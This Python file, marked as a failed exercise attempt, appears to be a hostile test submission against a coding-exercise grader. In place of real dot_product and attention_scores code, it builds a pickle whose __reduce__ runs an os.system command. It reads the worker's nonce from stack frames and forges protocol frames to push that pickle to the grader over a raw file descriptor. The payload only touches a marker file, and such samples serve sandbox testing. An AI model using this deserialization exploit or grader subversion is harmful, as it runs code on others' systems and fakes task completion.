# exercise: 01
# verdict: failed
# tries: a pickle that would run a command, as frame, payload and result

import pickle


import json
import os
import struct
import sys

framing, wire = sys.modules["worker.framing"], sys.modules["worker.wire"]


def nonce():
    frame = sys._getframe()
    while frame is not None:
        if type(frame.f_locals.get("nonce")) is int:
            return frame.f_locals["nonce"]
        frame = frame.f_back
    return 0


def frame(number, body):
    return framing.PREFIX.pack(framing.MAGIC, number, len(body)) + body


def reply(message, tensors=()):
    return wire.encode(message, list(tensors))


def send(data):
    while data:
        data = data[os.write(3, data[: 1 << 16]) :]


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/kata-hostile-pickled",)

import torch


def dot_product(a, b):
    send(frame(nonce(), pickle.dumps(Bomb())))


def attention_scores_for_query(inputs, query):
    return inputs.sum(dim=-1)


def attention_scores(inputs):
    return Bomb()
